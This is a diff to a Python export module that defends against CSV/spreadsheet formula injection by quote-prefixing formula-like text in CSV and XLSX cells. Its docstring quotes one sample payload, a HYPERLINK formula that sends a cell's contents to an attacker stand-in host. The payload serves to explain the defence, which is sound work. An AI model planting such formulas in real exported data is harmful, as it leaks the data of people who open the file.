@@ -3,10 +3,11 @@
 Text a citizen or a unit typed (an address, a description, a task title) must never become a formula when
 the office opens the file (CSV injection: ``=HYPERLINK("http://evil.example/?x="&A1,"click")``), nor break
 the XML inside an XLSX or a DOCX. Following the OWASP guidance, text starting with ``= + - @``, a tab or a
-carriage return (leading spaces ignored, as some spreadsheets trim them) is neutralised: in CSV prefixed with
-a single quote; in XLSX written as a string cell with Excel's quote-prefix flag, so it shows as typed and is
-never a formula, not even after the cell is edited. Real numbers, dates and booleans stay what they are: a
-figure is a figure; a "-5" a person typed is text and is neutralised.
+carriage return (leading spaces ignored, as some spreadsheets trim them) is prefixed with a single quote, in
+CSV and in XLSX alike; in XLSX every text is also a string cell, never a formula. The quote stays in the value
+so a program that reads the workbook and writes a CSV from it (a common office step) does not re-arm the
+formula. Real numbers, dates and booleans stay what they are: a figure is a figure; a "-5" a person typed is
+text and is neutralised.
 """
 
 from __future__ import annotations
@@ -32,15 +33,20 @@ def text_cell(value) -> str:
     return "" if value is None else strip_controls(str(value))
 
 
+def inert_text(value) -> str:
+    """Any value as text without control characters, quoted with ``'`` when a spreadsheet would read it as a
+    formula."""
+    text = text_cell(value)
+    return f"'{text}" if is_formula_like(text) else text
+
+
 def csv_cell(value):
-    """A value for ``csv.writer``: numbers and dates as they are, text without control characters and quoted
-    with ``'`` when a spreadsheet would read it as a formula."""
+    """A value for ``csv.writer``: numbers and dates as they are, text as ``inert_text``."""
     if value is None:
         return ""
     if isinstance(value, _PLAIN):
         return value
-    text = text_cell(value)
-    return f"'{text}" if is_formula_like(text) else text
+    return inert_text(value)
 
 
 def csv_row(values: Iterable) -> list:
@@ -49,17 +55,13 @@ def csv_row(values: Iterable) -> list:
 
 def xlsx_row(sheet, values: Iterable) -> list:
     """Cells for ``sheet.append`` (a write-only or an ordinary sheet): numbers and dates typed as they are, text
-    always a string cell (openpyxl would make any text starting with "=" a formula)."""
+    as ``inert_text`` and always a string cell (openpyxl would make any text starting with "=" a formula)."""
     cells = []
     for value in values:
         if value is None or isinstance(value, _PLAIN):
             cells.append(WriteOnlyCell(sheet, value=value))
             continue
-        text = text_cell(value)
-        cell = WriteOnlyCell(sheet, value=None)
-        cell.value = text
+        cell = WriteOnlyCell(sheet, value=inert_text(value))
         cell.data_type = "s"
-        if is_formula_like(text):
-            cell.quotePrefix = True
         cells.append(cell)
     return cells
